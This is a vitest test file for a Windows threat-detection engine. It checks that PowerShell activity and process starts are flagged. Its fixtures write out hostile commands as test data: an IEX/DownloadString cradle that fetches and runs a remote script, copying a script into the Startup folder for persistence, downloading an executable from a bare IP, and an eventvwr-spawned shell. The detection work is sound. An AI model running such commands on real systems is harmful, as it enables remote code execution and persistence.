import { describe, expect, it } from "vitest";
import { anEvent, aStart } from "../../test/support/events.ts";
import { findingsOf } from "../../test/support/findings.ts";
import type { Event } from "../model/event.ts";
import type { Level } from "../model/level.ts";

const S32 = "C:\\Windows\\System32\\";
const PS = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;

const find = (events: readonly Event[], minLevel: Level = "medium") => findingsOf(events, { minLevel });

describe("a script block of PowerShell", () => {
  const block = (at: number, text: string, origin: "scriptBlock" | "pipeline" = "scriptBlock") =>
    anEvent("commandExecution", at, {
      process: { pid: "P".charCodeAt(0) },
      text,
      dialect: "powershell",
      origin,
    });
  const cradle = "IEX (New-Object Net.WebClient).DownloadString('https://a.example/x.ps1')";
  it("that runs what it fetches is a finding, once", () => {
    const findings = find([block(0, cradle), block(1, cradle, "pipeline")]);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({
      behaviour: "windows/powershell/remote-code",
      runs: [{ value: "https://a.example/x.ps1", where: "web" }],
    });
  });
  it("stands with the finding of the shell whose line says so", () => {
    const findings = find([aStart(0, "P", PS, `powershell -c "${cradle}"`), block(1, cradle)]);
    expect(findings).toHaveLength(1);
    expect(findings[0]?.related).toHaveLength(1);
  });
  it("is told of where the shell's own line says less", () => {
    const findings = find([aStart(0, "P", PS, "powershell -File C:\\Scripts\\x.ps1"), block(1, cradle)]);
    expect(findings.map(({ behaviour }) => behaviour)).toContain("windows/powershell/remote-code");
  });
  it("that writes where files are started at logon is a finding, though scripts of setups do so, too", () => {
    const startup = "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\u.vbs";
    const [copied] = find([block(0, `Copy-Item C:\\x\\u.vbs '${startup}'`)], "low");
    expect(copied?.techniques).toContain("T1547.001");
    const [started] = find([block(0, `Copy-Item C:\\x\\u.vbs '${startup}'; Start-Process '${startup}'`)]);
    expect(started?.runs).toMatchObject([{ value: startup }]);
  });
  it("that fetches a program from a machine without a name is a finding, and one that fetches another file is less", () => {
    const fetch = (address: string) =>
      find([block(0, `iwr ${address} -OutFile C:\\Users\\Public\\p.exe`)], "informational");
    const [bare, named] = [fetch("http://203.0.113.4/p.exe"), fetch("https://files.example/p.exe")];
    expect(bare[0]).toMatchObject({ behaviour: "windows/powershell/download", level: "medium" });
    expect(named[0]?.evidence.map(({ id }) => id)).toContain("own-script");
    expect(named[0]?.score).toBeLessThan(40);
  });
  it.each([
    "Get-ChildItem C:\\Temp | Remove-Item",
    "Invoke-WebRequest https://a.example/x.zip -OutFile D:\\x.zip",
    "& 'C:\\Program Files\\V\\v.exe' /check",
  ])("that does what scripts do is none: %s", (text) => {
    expect(find([block(0, text)])).toEqual([]);
  });
});

describe("what a program that elevates itself starts", () => {
  const eventvwr = `${S32}eventvwr.exe`;
  const child = (image: string) =>
    aStart(1, "C", image, image, "P", {
      parent: { key: "id:P", pid: 3, image: eventvwr },
      parentCommandLine: `"${eventvwr}"`,
    });
  it("is a finding of the program where that is a shell, though its own start is not logged", () => {
    const [finding] = find([child(PS)]);
    expect(finding).toMatchObject({ binary: { name: "eventvwr.exe" }, level: "high" });
    expect(finding?.evidence.map(({ id }) => id)).toContain("elevated-child");
  });
  it("is none where it is its own console", () => {
    expect(find([child(`${S32}mmc.exe`)])).toEqual([]);
  });
});
